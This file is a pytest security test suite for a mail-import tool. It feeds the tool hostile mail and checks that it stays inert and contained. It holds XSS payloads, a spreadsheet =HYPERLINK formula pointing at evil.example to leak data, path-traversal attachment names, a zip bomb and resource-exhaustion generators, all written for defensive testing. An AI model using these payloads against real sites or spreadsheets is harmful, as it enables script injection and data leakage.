"""Hostile mail: every case is stored byte-exact, recorded when something was skipped, credits no
real provider, writes nothing outside the data directory and stays within stated time/memory bounds.

The small cases are hand-written files in `tests/fixtures/hostile/`; the big ones (200 MB, 100k
parts, 1 MB headers, a zip bomb, ...) are generated into tmp_path at test time. Imports run
`subtrail import` in a child process so its peak memory (with its parser workers) can be measured.
"""

from __future__ import annotations

import base64
import hashlib
import json
import os
import re
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from sqlite_utils import Database

from extractors.mail.parse import parse_message
from extractors.registry import registry
from tests.conftest import FIXTURES

HOSTILE = FIXTURES / "hostile"
CORPUS = sorted(p.name for p in HOSTILE.glob("*.eml"))
SPOOFS = [name for name in CORPUS if name.startswith("spoof-")] + ["encoded-word-abuse.eml"]

# Measures an import in a child process: wall time, and the peak RSS of it and its worker processes.
_DRIVER = """
import json, resource, sys
from ingest.cli import cli
try:
    cli.main(sys.argv[1:], prog_name="subtrail", standalone_mode=False)
    code = 0
except SystemExit as exc:
    code = exc.code or 0
# VmHWM, not RUSAGE_SELF: Linux carries the parent's high-water mark across fork + exec.
own = next(int(line.split()[1]) for line in open("/proc/self/status") if line.startswith("VmHWM:"))
peak = max(own, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)
print(json.dumps({"code": code, "peak_mb": peak / 1024}))
"""


@dataclass
class Run:
    code: int
    seconds: float
    peak_mb: float
    stderr: str


def run_subtrail(workdir: Path, *args: str, timeout: float = 300) -> Run:
    """`subtrail ARGS` in `workdir`, with HOME and TMPDIR inside it so stray writes show up."""
    env = {
        **os.environ,
        "HOME": str(workdir / "home"),
        "TMPDIR": str(workdir / "tmp"),
        "PYTHONPATH": str(Path(__file__).resolve().parent.parent),
    }
    env.pop("SUBTRAIL_CONFIG", None)
    for sub in ("home", "tmp"):
        (workdir / sub).mkdir(exist_ok=True)
    started = time.monotonic()
    proc = subprocess.run(
        [sys.executable, "-c", _DRIVER, *args],
        cwd=workdir,
        env=env,
        capture_output=True,
        text=True,
        timeout=timeout,
    )
    seconds = time.monotonic() - started
    assert proc.returncode == 0, proc.stderr[-3000:]
    result = json.loads(proc.stdout.strip().splitlines()[-1])
    return Run(result["code"], seconds, result["peak_mb"], proc.stderr)


def tree_outside_data(root: Path) -> dict[str, tuple[int, int]]:
    """Every file and directory under `root` except data/: path -> (size, mtime_ns)."""
    found: dict[str, tuple[int, int]] = {}
    for path in root.rglob("*"):
        rel = path.relative_to(root)
        if rel.parts[0] == "data" or str(rel) in ("home", "tmp"):  # their contents do count
            continue
        stat = path.lstat()
        found[str(rel)] = (stat.st_size if path.is_file() else 0, stat.st_mtime_ns)
    return found


# Names the corpus's attachment file names would create if anything ever saved them as given.
_ESCAPES = ("subtrail-hostile-traversal.txt", "subtrail-hostile-absolute.txt", "subtrail-hostile.bat")


def assert_no_escape(workdir: Path) -> None:
    for base in {Path("/tmp"), Path("/"), workdir.parent, workdir / "home", Path.cwd()}:
        for name in _ESCAPES:
            assert not (base / name).exists(), base / name
    leftovers = list((workdir / "tmp").iterdir())
    assert leftovers == [], f"temporary files left behind: {leftovers}"


# --- the hand-written corpus ------------------------------------------------------------------


@pytest.fixture(scope="module")
def corpus(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Database, Run, Path]]:
    workdir = tmp_path_factory.mktemp("hostile")
    before = tree_outside_data(workdir)
    run = run_subtrail(workdir, "import", str(HOSTILE), "--db", "data/subtrail.db")
    after = tree_outside_data(workdir)
    assert after == before, "the import wrote outside its data directory"
    assert_no_escape(workdir)
    db = Database(workdir / "data" / "subtrail.db")
    yield db, run, workdir
    db.close()


def _message(db: Database, name: str) -> dict:
    sha = hashlib.sha256((HOSTILE / name).read_bytes()).hexdigest()
    rows = list(db.query("select * from messages where sha256 = ?", [sha]))
    assert len(rows) == 1, f"{name} not stored"
    return rows[0]


def test_corpus_import_goes_on(corpus: tuple[Database, Run, Path]) -> None:
    db, run, _ = corpus
    assert run.code == 1  # problems were recorded, the import kept going
    assert db["messages"].count == len(CORPUS)
    assert run.seconds < 60 and run.peak_mb < 400, run


@pytest.mark.parametrize("name", CORPUS)
def test_stored_byte_exact(corpus: tuple[Database, Run, Path], name: str) -> None:
    db, _, _ = corpus
    raw = (HOSTILE / name).read_bytes()
    row = _message(db, name)
    stored = db.execute("select raw from raw_messages where sha256 = ?", [row["sha256"]]).fetchone()[0]
    assert stored == raw
    assert row["size"] == len(raw)


@pytest.mark.parametrize("name", CORPUS)
def test_every_parse_problem_recorded(corpus: tuple[Database, Run, Path], name: str) -> None:
    db, _, _ = corpus
    row = _message(db, name)
    problems = parse_message((HOSTILE / name).read_bytes()).problems
    recorded = {r[0] for r in db.execute("select error from ingest_errors where sha256 = ?", [row["sha256"]])}
    assert set(problems) <= recorded


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("bare-cr-and-lf-mix.eml", "no Message-ID"),
        ("encoded-word-abuse.eml", "unknown charset"),
        ("header-only-no-body.eml", "missing or unreadable Date"),
        ("mime-malformed.eml", "unknown charset 'x-evil-charset'"),
        ("mime-malformed.eml", "CloseBoundaryNotFoundDefect"),
        ("mime-malformed.eml", "NoBoundaryInMultipartDefect"),
        ("truncated-mid-base64.eml", "CloseBoundaryNotFoundDefect"),
    ],
)
def test_skipped_parts_are_ingest_errors(
    corpus: tuple[Database, Run, Path], name: str, expected: str
) -> None:
    db, _, _ = corpus
    row = _message(db, name)
    errors = [r[0] for r in db.execute("select error from ingest_errors where sha256 = ?", [row["sha256"]])]
    assert any(expected in e for e in errors), errors


@pytest.mark.parametrize("name", CORPUS)
def test_no_real_provider_credited(corpus: tuple[Database, Run, Path], name: str) -> None:
    db, _, _ = corpus
    row = _message(db, name)
    known = registry().providers
    assert row["provider"] not in known
    credited = [
        r[0]
        for r in db.execute(
            "select s.provider from subscription_events e join subscriptions s on s.id = e.subscription_id "
            "where e.message_sha256 = ?",
            [row["sha256"]],
        )
    ]
    assert not [p for p in credited if p in known]


@pytest.mark.parametrize("name", SPOOFS)
def test_spoofed_sender_flagged(corpus: tuple[Database, Run, Path], name: str) -> None:
    db, _, _ = corpus
    row = _message(db, name)
    assert row["provider"] is None
    assert row["suspicious"] and "Netflix" in row["suspicious"]


def test_encoded_display_name_is_not_the_address(corpus: tuple[Database, Run, Path]) -> None:
    """RFC 2047 in a display name decodes to 'Netflix <billing@netflix.com>': it stays a name."""
    row = _message(corpus[0], "encoded-word-abuse.eml")
    assert row["from_addr"] == "attacker@encoded-words.example"
    assert row["from_name"] == "Netflix <billing@netflix.com>"
    assert "\n" not in row["subject"] and "\r" not in row["subject"] and "\x00" not in row["subject"]


def test_text_columns_hold_no_control_characters(corpus: tuple[Database, Run, Path]) -> None:
    db = corpus[0]
    columns = ("from_addr", "from_name", "to_addrs", "reply_to", "subject", "body_text", "attachments")
    for row in db.query(f"select {', '.join(columns)} from messages"):
        for column in columns:
            value = row[column] or ""
            bad = [c for c in value if ord(c) < 32 and c not in "\n\t"]
            assert not (column != "attachments" and bad), (column, value[:200])
            assert "\x00" not in value


def test_html_reduced_to_inert_text(corpus: tuple[Database, Run, Path]) -> None:
    row = _message(corpus[0], "html-script.eml")
    text = row["body_text"]
    assert "Hostile HTML marker text" in text and "Click to confirm your payment" in text
    for active in ("alert(", "javascript", "HOSTILE_SCRIPT_RAN", "evil.example", "expression(", "<"):
        assert active not in text
    assert row["has_html"] == 1


def test_attachment_names_recorded_verbatim_never_used_as_paths(corpus: tuple[Database, Run, Path]) -> None:
    db, _, workdir = corpus
    names = [a["filename"] for a in json.loads(_message(db, "attachment-names.eml")["attachments"])]
    assert "../../../../../../tmp/subtrail-hostile-traversal.txt" in names
    assert "/tmp/subtrail-hostile-absolute.txt" in names
    assert "../../subtrail-hostile-rfc2231.txt" in names
    assert len(names) == 8
    assert_no_escape(workdir)


def test_reimport_is_idempotent(corpus: tuple[Database, Run, Path]) -> None:
    db, _, workdir = corpus
    counts = {t: db[t].count for t in ("messages", "raw_messages", "message_locations", "ingest_errors")}
    run_subtrail(workdir, "import", str(HOSTILE), "--db", "data/subtrail.db")
    assert {t: db[t].count for t in counts} == counts


def test_reprocess_twice_changes_nothing(shown: tuple[Path, Path]) -> None:
    """`subtrail reprocess` over hostile mail: no crash, and a second run changes no row."""
    workdir, db_path = shown

    def snapshot() -> dict[str, list[tuple[Any, ...]]]:
        with Database(db_path) as db:
            return {
                table: sorted(map(tuple, db.execute(f"select * from [{table}]").fetchall()), key=repr)
                for table in (
                    "messages",
                    "subscriptions",
                    "subscription_events",
                    "tickets",
                    "ticket_messages",
                )
            }

    first = run_subtrail(workdir, "reprocess", "--config", "subtrail.toml")
    assert first.code in (0, 1), first.stderr[-2000:]
    after_first = snapshot()
    second = run_subtrail(workdir, "reprocess", "--config", "subtrail.toml")
    assert second.code == first.code
    assert snapshot() == after_first


# --- generated big and pathological messages --------------------------------------------------

_HEAD = (
    b"From: Big <big@generated.example>\r\nTo: alice@example.org\r\nDate: Tue, 03 Mar 2026 09:15:00 +0000\r\n"
    b"Message-ID: <generated@hostile.test>\r\nMIME-Version: 1.0\r\n"
)


def _huge(path: Path, mib: int = 200) -> None:
    """A 200 MB message: a short text part, then a base64 attachment."""
    line = base64.b64encode(os.urandom(57)) + b"\r\n"
    block = line * 20_000
    with path.open("wb") as fh:
        fh.write(_HEAD + b"Subject: 200 MB\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n")
        fh.write(b"--b\r\nContent-Type: text/plain\r\n\r\nsee attachment\r\n")
        fh.write(b"--b\r\nContent-Type: application/octet-stream; name=big.bin\r\n")
        fh.write(b"Content-Transfer-Encoding: base64\r\n\r\n")
        written = 0
        while written < mib * 1024 * 1024:
            written += fh.write(block)
        fh.write(b"--b--\r\n")


def _many_parts(path: Path, parts: int = 100_000) -> None:
    body = b"".join(b"--p\r\nContent-Type: text/plain\r\n\r\npart %d\r\n" % i for i in range(parts))
    path.write_bytes(
        _HEAD
        + b"Subject: 100k parts\r\nContent-Type: multipart/mixed; boundary=p\r\n\r\n"
        + body
        + b"--p--\r\n"
    )


def _deep(path: Path, depth: int = 5_000) -> None:
    opening = b"".join(
        b'Content-Type: multipart/mixed; boundary="n%d"\r\n\r\n--n%d\r\n' % (i, i) for i in range(depth)
    )
    path.write_bytes(_HEAD + b"Subject: deep\r\n" + opening + b"Content-Type: text/plain\r\n\r\ncore\r\n")


def _header_1mb(path: Path) -> None:
    path.write_bytes(_HEAD + b"Subject: " + b"A" * (1024 * 1024) + b"\r\n\r\nbody\r\n")


def _header_1mb_encoded_words(path: Path) -> None:
    words = b" ".join([b"=?utf-8?b?w6nDqcOp?="] * (1024 * 1024 // 21))
    path.write_bytes(_HEAD + b"Subject: " + words + b"\r\n\r\nbody\r\n")


def _header_1mb_folded(path: Path) -> None:
    path.write_bytes(
        _HEAD + b"X-Folded: " + b"x\r\n " * (1024 * 1024 // 4) + b"\r\nSubject: f\r\n\r\nbody\r\n"
    )


def _many_headers(path: Path) -> None:
    fields = b"".join(b"X-H%d: v\r\n" % i for i in range(100_000))
    path.write_bytes(_HEAD + fields + b"Subject: 100k header fields\r\n\r\nbody\r\n")


def _many_recipients(path: Path) -> None:
    to = b", ".join(b"user%d@recipients.example" % i for i in range(50_000))
    path.write_bytes(_HEAD.replace(b"To: alice@example.org", b"To: " + to) + b"Subject: many\r\n\r\nbody\r\n")


def _zip_bomb(path: Path) -> None:
    """1 GiB of zeros in a ~4.5 MB zip attachment: nothing may ever expand it."""
    zipped = path.with_suffix(".zip")
    with zipfile.ZipFile(zipped, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        with archive.open("zeros.bin", "w", force_zip64=True) as member:
            chunk = bytes(1 << 24)
            for _ in range(64):
                member.write(chunk)
    encoded = base64.encodebytes(zipped.read_bytes()).replace(b"\n", b"\r\n")
    zipped.unlink()
    path.write_bytes(
        _HEAD + b"Subject: your invoice\r\nContent-Type: multipart/mixed; boundary=z\r\n\r\n"
        b"--z\r\nContent-Type: text/plain\r\n\r\nsee the zip\r\n--z\r\n"
        b'Content-Type: application/zip\r\nContent-Disposition: attachment; filename="invoice.zip"\r\n'
        b"Content-Transfer-Encoding: base64\r\n\r\n" + encoded + b"--z--\r\n"
    )


def _html_bomb(path: Path) -> None:
    """15 MB of HTML paragraphs (converting all of it took 31 s and 1.2 GB before the cap)."""
    html = b"<p>hello world</p>" * 850_000
    path.write_bytes(
        _HEAD + b"Subject: html\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + html + b"\r\n"
    )


def _html_nested(path: Path) -> None:
    html = b"<div>" * 200_000 + b"core" + b"</div>" * 200_000
    path.write_bytes(_HEAD + b"Subject: nested html\r\nContent-Type: text/html\r\n\r\n" + html + b"\r\n")


def _long_line(path: Path) -> None:
    path.write_bytes(_HEAD + b"Subject: one line\r\n\r\n" + b"x" * (50 * 1024 * 1024))


# name -> (generator, error expected in ingest_errors or None, seconds bound, MB bound).
# Bounds are about 2x the peak measured here (--workers 2, 2 shared cores), with room for a busy CPU.
GENERATED: dict[str, tuple[Callable[[Path], None], str | None, float, float]] = {
    "huge-200mb": (_huge, "only the first 33554432 read", 30, 1000),  # measured 3.5 s, 660 MB
    "parts-100k": (_many_parts, "more than 2000 MIME parts", 30, 300),  # 2.4 s, 120 MB
    "nesting-5000": (_deep, "RecursionError", 20, 150),  # 1.0 s, 56 MB
    "header-1mb": (_header_1mb, None, 20, 200),  # 0.6 s, 59 MB
    "header-1mb-encoded-words": (_header_1mb_encoded_words, None, 20, 200),  # 0.8 s, 59 MB
    "header-1mb-folded": (_header_1mb_folded, None, 20, 200),  # 1.4 s, 67 MB
    "header-fields-100k": (_many_headers, None, 20, 200),  # 1.5 s, 65 MB
    "recipients-50k": (_many_recipients, None, 20, 200),  # 1.3 s, 60 MB
    "zip-bomb": (_zip_bomb, None, 20, 250),  # 0.7 s, 91 MB
    "html-15mb": (_html_bomb, "HTML longer than", 30, 400),  # 2.0 s, 198 MB
    "html-nested-200k": (_html_nested, "HTML longer than", 30, 400),  # 2.9 s, 167 MB
    "line-50mb": (_long_line, "only the first", 30, 900),  # 2.0 s, 440 MB
}
_SLOW = {"huge-200mb", "parts-100k", "zip-bomb", "html-15mb", "html-nested-200k", "line-50mb"}


@pytest.mark.parametrize(
    "case", [pytest.param(name, marks=[pytest.mark.slow] if name in _SLOW else []) for name in GENERATED]
)
def test_generated_hostile_message(tmp_path: Path, case: str) -> None:
    generate, expected_error, max_seconds, max_mb = GENERATED[case]
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    source = inbox / f"{case}.eml"
    generate(source)
    with source.open("rb") as fh:
        digest = hashlib.file_digest(fh, "sha256").hexdigest()
    size = source.stat().st_size
    before = tree_outside_data(tmp_path)

    run = run_subtrail(tmp_path, "import", str(inbox), "--db", "data/subtrail.db", "--workers", "2")

    assert run.code in (0, 1), run.stderr[-2000:]
    assert run.seconds < max_seconds, f"{case}: {run.seconds:.1f}s"
    assert run.peak_mb < max_mb, f"{case}: {run.peak_mb:.0f} MB"
    with Database(tmp_path / "data" / "subtrail.db") as db:
        assert db.execute("select sha256, length(raw) from raw_messages").fetchall() == [(digest, size)]
        assert hashlib.sha256(db.execute("select raw from raw_messages").fetchone()[0]).hexdigest() == digest
        assert db["messages"].count == 1
        errors = [r[0] for r in db.execute("select error from ingest_errors")]
    if expected_error:
        assert any(expected_error in e for e in errors), errors
    assert run.code == (1 if errors else 0)
    after = tree_outside_data(tmp_path)
    assert after == before
    assert_no_escape(tmp_path)
    print(f"{case}: {size / 1e6:.1f} MB imported in {run.seconds:.1f}s, peak {run.peak_mb:.0f} MB")


# --- shown, never executed: Datasette pages, blobs, the dossier, exports -----------------------

PAYLOADS = {
    "X1": "<script>alert('X1')</script>",
    "X2": "<img src=x onerror=alert('X2')>",
    "X3": "\"><svg onload=alert('X3')>",
    "X4": "javascript:alert('X4')",
}


FORMULA = '=HYPERLINK("http://evil.example/?leak","Open")'  # a spreadsheet would evaluate it


def _carrier_mail() -> dict[str, bytes]:
    """A support exchange with a *real* provider whose text carries script payloads, so they reach
    the journal, the dossier and the exports (a spoofed sender would be kept out of those)."""
    p1, p2, p3, p4 = PAYLOADS.values()
    out = (
        f"From: Alice <alice@example.org>\nTo: Netflix Support <support@netflix.com>\n"
        f"Subject: {FORMULA} Remboursement {p1} - Ticket 4242\nDate: Mon, 02 Mar 2026 09:00:00 +0000\n"
        f"Message-ID: <carrier-out@example.org>\nContent-Type: text/plain; charset=utf-8\n\n"
        f'Bonjour, je demande le remboursement de 13,49 \u20ac. {p2}\n=HYPERLINK("http://evil.example")\n{p4}\n'
    )
    reply = (
        f'From: "Julie {p3}" <support@netflix.com>\nTo: alice@example.org\n'
        f"Subject: Re: {FORMULA} Remboursement {p1} - Ticket 4242\nDate: Tue, 03 Mar 2026 09:00:00 +0000\n"
        f"Message-ID: <carrier-in@netflix.com>\nIn-Reply-To: <carrier-out@example.org>\n"
        f"Content-Type: text/plain; charset=utf-8\n\n"
        f"Bonjour Alice, nous vous rembourserons 13,49 \u20ac sous 5 jours. {p2}\nJulie {p3}\n"
    )
    return {name: text.replace("\n", "\r\n").encode() for name, text in (("out.eml", out), ("in.eml", reply))}


def active_content(html: str) -> list[str]:
    """Script that a browser would run in this page: script elements, handlers, javascript: URLs."""
    from bs4 import BeautifulSoup

    found = []
    for tag in BeautifulSoup(html, "html.parser").find_all(True):
        if tag.name == "script" and "alert(" in tag.get_text():
            found.append(str(tag)[:120])
        for attr, value in tag.attrs.items():
            text = " ".join(value) if isinstance(value, list) else str(value)
            url_attr = attr in ("href", "src", "action", "formaction", "data", "xlink:href")
            if (attr.startswith("on") and "alert(" in text) or (url_attr and "javascript:" in text.lower()):
                found.append(f"<{tag.name} {attr}={text[:80]!r}>")
            if attr == "style" and "expression(" in text:
                found.append(f"<{tag.name} style={text[:80]!r}>")
    return found


@pytest.fixture(scope="module")
def shown(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, Path]]:
    """The corpus plus the carrier exchange, imported with an identity (so the journal runs)."""
    workdir = tmp_path_factory.mktemp("shown")
    inbox = workdir / "inbox"
    inbox.mkdir()
    for name, raw in _carrier_mail().items():
        (inbox / name).write_bytes(raw)
    (workdir / "subtrail.toml").write_text(
        'db = "data/subtrail.db"\n[identity]\naddresses = ["alice@example.org"]\n'
    )
    run = run_subtrail(workdir, "import", str(inbox), str(HOSTILE), "--config", "subtrail.toml")
    assert run.code in (0, 1), run.stderr
    db_path = workdir / "data" / "subtrail.db"
    with Database(db_path) as db:
        assert db.execute("select count(*) from tickets where provider = 'netflix'").fetchone()[0] >= 1
    yield workdir, db_path


def test_datasette_pages_show_hostile_text_inert(shown: tuple[Path, Path]) -> None:
    import asyncio

    from ingest.web.serve import build_datasette

    _, db_path = shown
    with Database(db_path) as db:
        message_ids = [r[0] for r in db.execute("select id from messages order by id")]
        ticket_ids = [r[0] for r in db.execute("select id from tickets order by id")]
        tm_ids = [r[0] for r in db.execute("select id from ticket_messages order by id")]
        views = [r[0] for r in db.execute("select name from sqlite_master where type = 'view'")]
    pages = [
        "/",
        "/subtrail",
        "/subtrail/messages?_search=alert",
        "/dossier/netflix",
        "/-/dashboards/subtrail",
    ]
    pages += [
        f"/subtrail/{t}" for t in ("messages", "tickets", "ticket_messages", "promises", "ingest_errors")
    ]
    pages += [f"/subtrail/{v}" for v in views]
    pages += [f"/subtrail/messages/{i}" for i in message_ids] + [f"/subtrail/tickets/{i}" for i in ticket_ids]
    pages += [f"/subtrail/ticket_messages/{i}" for i in tm_ids]
    pages += [f"/subtrail/ticket_timeline?ticket_id={i}" for i in ticket_ids] + ["/subtrail/open_tickets"]
    ds = build_datasette(db_path)

    async def fetch_all() -> list[Any]:
        await ds.invoke_startup()
        return [await ds.client.get(page) for page in pages]

    responses = asyncio.run(fetch_all())
    shown_as_text = set()
    for page, response in zip(pages, responses, strict=True):
        assert response.status_code in (200, 404), (page, response.status_code)
        if response.status_code != 200:
            continue
        assert response.headers["content-type"].startswith("text/html")
        assert active_content(response.text) == [], page
        shown_as_text |= {key for key, payload in PAYLOADS.items() if payload in _page_text(response.text)}
    assert shown_as_text == set(PAYLOADS), "the payloads never reached a page: the test proves nothing"


def _page_text(html: str) -> str:
    from bs4 import BeautifulSoup

    return BeautifulSoup(html, "html.parser").get_text()


def test_raw_downloads_are_never_rendered(shown: tuple[Path, Path]) -> None:
    """The scripted HTML mail, fetched as a blob or an .eml, is a download, not a page."""
    import asyncio

    from ingest.web.serve import build_datasette

    sha = hashlib.sha256((HOSTILE / "html-script.eml").read_bytes()).hexdigest()
    ds = build_datasette(shown[1])

    async def fetch() -> list[Any]:
        await ds.invoke_startup()
        paths = [f"/subtrail/raw_messages/{sha}.blob?_blob_column=raw", f"/evidence/{sha}.eml"]
        return [await ds.client.get(p) for p in paths]

    for response in asyncio.run(fetch()):
        assert response.status_code == 200
        assert response.content == (HOSTILE / "html-script.eml").read_bytes()
        assert not response.headers["content-type"].startswith(
            ("text/html", "image/svg", "application/xhtml")
        )
        assert response.headers.get("content-disposition", "").startswith("attachment")
        assert response.headers.get("x-content-type-options") == "nosniff"


def test_dossier_and_exports_inert(shown: tuple[Path, Path]) -> None:
    import csv
    import io

    workdir, _ = shown
    before = tree_outside_data(workdir)
    out = workdir / "data" / "out"
    out.mkdir()
    commands = [
        ("dossier", "netflix", "--html", "-o", "data/out/dossier.html"),
        ("dossier", "netflix", "-o", "data/out/dossier.md"),
        ("export", "evidence", "--format", "csv", "-o", "data/out/evidence.csv"),
        ("export", "evidence", "--format", "zip", "-o", "data/out/evidence.zip"),
        ("export", "calendar", "-o", "data/out/calendar.ics"),
    ]
    for command in commands:
        run = run_subtrail(workdir, *command, "--config", "subtrail.toml")
        assert run.code == 0, (command, run.stderr[-1000:])
    html = (out / "dossier.html").read_text(encoding="utf-8")
    assert active_content(html) == []
    assert PAYLOADS["X1"] in _page_text(html)  # shown, as text
    # CommonMark reads "\<" as a literal "<": no tag can open. (Python-Markdown does not honour that
    # escape; see docs/security.md.)
    markdown = (out / "dossier.md").read_text(encoding="utf-8")
    assert "alert('X1')" in markdown and re.search(r"(?<!\\)<(?!https?://)", markdown) is None
    rows = list(csv.reader(io.StringIO((out / "evidence.csv").read_text(encoding="utf-8"))))
    assert any(PAYLOADS["X1"] in cell for row in rows for cell in row)
    assert any(cell.startswith("'" + FORMULA) for row in rows for cell in row), (
        "the formula never reached a cell"
    )
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not (cell.startswith("-") and not cell[1:2].isdigit()), cell
    with zipfile.ZipFile(out / "evidence.zip") as archive:
        for name in archive.namelist():
            assert not name.startswith("/") and ".." not in name.split("/") and "\\" not in name, name
    after = tree_outside_data(workdir)
    assert after == before
    assert_no_escape(workdir)


# --- a hostile tree of files (an unpacked archive) ----------------------------------------------


def test_links_and_special_files_below_the_given_path_are_not_followed(tmp_path: Path) -> None:
    """A symlink loop, a link to a private file elsewhere, a FIFO, a link to /dev/zero: nothing
    hangs, nothing outside the tree is stored, each is reported."""
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "id_rsa").write_text("From: me@example.org\nSubject: key\n\nPRIVATE KEY MATERIAL\n")
    tree = tmp_path / "takeout"
    maildir = tree / "Mail"
    for sub in ("cur", "new", "tmp"):
        (maildir / sub).mkdir(parents=True)
    (maildir / "cur" / "1:2,S").write_bytes((HOSTILE / "nul-bytes.eml").read_bytes())
    (maildir / "cur" / "2:2,S").symlink_to(outside / "id_rsa")
    (tree / "loop").symlink_to(tree)
    (tree / "key.eml").symlink_to(outside / "id_rsa")
    (tree / "zero.eml").symlink_to("/dev/zero")
    os.mkfifo(tree / "pipe.eml")
    run = run_subtrail(tmp_path, "import", str(tree), "--db", "data/subtrail.db", timeout=60)
    assert run.code == 1 and run.seconds < 30
    with Database(tmp_path / "data" / "subtrail.db") as db:
        raws = [r[0] for r in db.execute("select raw from raw_messages")]
        skipped = {
            Path(r[0]).name for r in db.execute("select source from ingest_errors where sha256 is null")
        }
    assert raws == [(HOSTILE / "nul-bytes.eml").read_bytes()]
    assert skipped == {"2:2,S", "loop", "key.eml", "zero.eml", "pipe.eml"}


def test_a_link_named_on_the_command_line_is_followed(tmp_path: Path) -> None:
    (tmp_path / "inbox").mkdir()
    (tmp_path / "inbox" / "link.eml").symlink_to(HOSTILE / "spoof-lookalike.eml")
    run = run_subtrail(tmp_path, "import", str(tmp_path / "inbox" / "link.eml"), "--db", "data/subtrail.db")
    assert run.code == 0
    with Database(tmp_path / "data" / "subtrail.db") as db:
        assert (
            db.execute("select raw from raw_messages").fetchone()[0]
            == (HOSTILE / "spoof-lookalike.eml").read_bytes()
        )


@pytest.mark.browser
@pytest.mark.skipif(not Path("/usr/bin/chromium").exists(), reason="/usr/bin/chromium is missing")
def test_nothing_runs_in_a_real_browser(shown: tuple[Path, Path]) -> None:
    """Headless Chromium on the pages that show hostile mail, and on the exported HTML dossier:
    no alert() fires, no script flag is set, no request leaves for a host named in the mail."""
    from playwright import sync_api

    from tests.serve_helpers import running_server

    workdir, db_path = shown
    with Database(db_path) as db:
        message_ids = [
            r[0]
            for r in db.execute(
                "select id from messages where body_text like '%alert%' or subject like '%<%'"
            )
        ]
        ticket_ids = [r[0] for r in db.execute("select id from tickets")]
    dossier = workdir / "data" / "browser-dossier.html"
    assert (
        run_subtrail(
            workdir, "dossier", "netflix", "--html", "-o", str(dossier), "--config", "subtrail.toml"
        ).code
        == 0
    )
    dialogs: list[str] = []
    foreign: list[str] = []
    with running_server(db_path) as url, sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path="/usr/bin/chromium", headless=True, args=["--no-sandbox", "--disable-gpu"]
        )
        page = browser.new_page()
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        page.on(
            "request",
            lambda request: (
                foreign.append(request.url)
                if "127.0.0.1" not in request.url and not request.url.startswith(("file:", "data:", "about:"))
                else None
            ),
        )
        pages = [f"{url}/subtrail/messages/{i}" for i in message_ids] + [
            f"{url}/subtrail/tickets/{i}" for i in ticket_ids
        ]
        pages += [
            f"{url}/subtrail/messages",
            f"{url}/subtrail/ticket_messages",
            f"{url}/dossier/netflix",
            dossier.as_uri(),
        ]
        for target in pages:
            page.goto(target, wait_until="load")
            page.wait_for_timeout(100)
            assert page.evaluate("typeof window.HOSTILE_SCRIPT_RAN") == "undefined", target
        browser.close()
    assert len(pages) > 6
    assert dialogs == [], dialogs
    assert foreign == [], foreign  # no tracking pixel, no remote script, no prefetch


# --- a message that kills its parser process -----------------------------------------------------


def test_a_worker_killed_mid_chunk_costs_no_message_and_no_wait(monkeypatch: pytest.MonkeyPatch) -> None:
    """The OOM killer taking a worker (simulated: the worker exits on one message): the chunk is
    redone in-process at once, not after WORKER_TIMEOUT (10 minutes), and nothing is lost."""
    from extractors import Identity
    from ingest import pipeline
    from ingest.pipeline import pool as workers
    from ingest.store import Job, Location

    parent, real = os.getpid(), pipeline.prepare

    def deadly(raw: bytes, location: Location, identity: Identity, sha256: str | None = None) -> Any:
        if b"KILL-WORKER" in raw and os.getpid() != parent:
            os._exit(9)
        return real(raw, location, identity, sha256)

    monkeypatch.setattr(pipeline, "prepare", deadly)
    raws = [b"From: a@b.example\r\nSubject: %d\r\n\r\nbody %d" % (i, i) for i in range(60)]
    raws[5] += b" KILL-WORKER"
    raws[45] += b" KILL-WORKER"
    jobs = [Job(raw, Location("test", "INBOX", uid=i)) for i, raw in enumerate(raws)]
    started = time.monotonic()
    prepared = [
        p for chunk in workers.prepare_chunks([jobs[:30], jobs[30:]], Identity(), workers=2) for p in chunk
    ]
    assert time.monotonic() - started < 30 < workers.WORKER_TIMEOUT
    assert [p.parsed.raw for p in prepared] == raws
    assert [p.parsed.subject for p in prepared] == [str(i) for i in range(60)]


REFLECTED = "<script>alert('reflected')</script>"


def test_hostile_query_strings_are_not_reflected(shown: tuple[Path, Path]) -> None:
    """A link a stranger sends (`?_sort=<script>…`, a bad `_search`, a dossier slug) never runs in
    the page it opens, error pages included. (A garbled `_next` may still answer 500, Datasette's
    own handling; the text is escaped. An unknown sort column is a 400: `ingest/web/bad_sort.py`.)"""
    import asyncio
    from urllib.parse import quote

    from ingest.web.serve import build_datasette

    payload = quote(REFLECTED)
    ds = build_datasette(shown[1])

    async def sweep() -> list[tuple[str, Any]]:
        await ds.invoke_startup()
        index = (await ds.client.get("/subtrail.json")).json()
        names = [t["name"] for t in index["tables"]] + [v["name"] for v in index.get("views", [])]
        names += [q["name"] for q in index.get("queries", [])]
        queries = [f"_sort={payload}", f"_search={payload}", f"_facet={payload}", f"_next={payload}"]
        queries += [f"provider={payload}", f"ticket_id={payload}", f"slug={payload}", f"_where={payload}"]
        paths = [f"/subtrail/{name}?{query}" for name in names for query in queries]
        paths += [
            f"/dossier/{payload}",
            f"/evidence/{payload}.eml",
            f"/subtrail?sql=select+{quote(repr(REFLECTED))}",
        ]
        return [(path, await ds.client.get(path)) for path in paths]

    answers = asyncio.run(sweep())
    assert len(answers) > 100
    for path, response in answers:
        assert REFLECTED not in response.text, path
        if response.headers.get("content-type", "").startswith("text/html"):
            assert active_content(response.text) == [], path
